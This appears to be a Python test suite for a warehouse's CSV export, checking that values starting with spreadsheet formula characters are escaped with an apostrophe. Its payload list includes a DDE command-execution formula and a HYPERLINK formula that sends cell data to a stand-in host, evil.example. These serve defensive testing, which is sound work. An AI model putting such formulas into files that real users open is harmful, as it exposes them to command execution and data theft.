"""Attacks on whoever opens our CSV files in a spreadsheet: formulas in headlines, tags and names."""

import csv
import io
from pathlib import Path

import duckdb
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from warehouse.outgoing import csv_expression, csv_text
from warehouse.published_tables import PublishedTable, export_csv
from warehouse.query import run_query, write_query

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', "\t=1", "\r=1",
    "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
]  # fmt: skip
INSIDE = [("a;=1", "a;'=1"), ("a\n=1", "a\n'=1"), ("a\t@x", "a\t'@x"), ("a;\uff1d1", "a;'\uff1d1")]
HARMLESS = ["", "Новина", "ціни 3+4=7", "a - b", "мінус -5 °C; -7 уночі", "— Так", "a@b.example", "'=1", "1=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_is_text(formula: str) -> None:
    assert csv_text(formula)[:2] == "'" + formula[0]


@pytest.mark.parametrize(
    ("text", "safe"),
    [*INSIDE, *zip(HARMLESS, HARMLESS, strict=True), ("a\x1b[2Jb\x9bc", "a\ufffd[2Jb\ufffdc"), ("\x00=1", "\ufffd=1")],
)
def test_text_stands_as_it_may(text: str, safe: str) -> None:
    assert csv_text(text) == safe


@given(
    text=st.text(
        st.sampled_from("=+-@; \t\r\n'\"a\x01\x7f\x85\u200b\uff1d\ufffd") | st.characters(codec="utf-8"), max_size=12
    )
)
@example(text="\n\n=1;=2\r-3")
@settings(max_examples=400, deadline=None)
def test_sql_and_python_keep_the_same_rule(text: str) -> None:
    if "\x00" not in text:  # no parameter of duckdb's Python side holds one
        with duckdb.connect() as connection:
            assert connection.execute(f"select {csv_expression('$1::varchar')}", [text]).fetchone() == (csv_text(text),)


def test_published_file_holds_no_formula_and_keeps_its_numbers(tmp_path: Path) -> None:
    with duckdb.connect() as connection:
        connection.execute("attach ':memory:' as warehouse")
        connection.execute(
            "create table warehouse.main.t as select -5 as n, -0.5::double as d, date '2026-05-07' as day, "
            "'=1' as v, ['=1', 'a', '-b'] as l, {'k': '=1'} as s, '=1'::enum_or as e".replace("enum_or", "enum('=1')")
        )
        kinds = connection.execute(
            "select column_name, data_type from duckdb_columns() where database_name = 'warehouse'"
        ).fetchall()
        table = PublishedTable("t", tuple(kinds), "", ())
        export_csv(connection, table, tmp_path / "t.csv")
    (row,) = csv.DictReader((tmp_path / "t.csv").open(encoding="utf-8", newline=""))
    assert row == {
        "n": "-5", "d": "-0.5", "day": "2026-05-07", "v": "'=1", "l": "'=1; a; '-b", "s": "{'k': '=1'}", "e": "'=1",
    }  # fmt: skip


def test_answer_of_a_query_holds_no_formula_and_keeps_its_numbers(tmp_path: Path) -> None:
    with duckdb.connect(tmp_path / "warehouse.duckdb") as connection:
        connection.execute("create table t as select '=1' as headline")
    result = run_query(
        tmp_path, 'select headline, headline || 1 as "=cmd", -5 as n, -0.5::decimal(3, 1) as d, [headline] as l from t'
    )
    rows = list(csv.reader(io.StringIO(write_query(result, "csv").decode(), newline="")))
    assert rows == [["headline", "'=cmd", "n", "d", "l"], ["'=1", "'=11", "-5", "-0.5", '["=1"]']]
    (pivoted,) = [run_query(tmp_path, "pivot t on headline using count(*)")]
    assert write_query(pivoted, "csv") == b"'=1\r\n1\r\n"
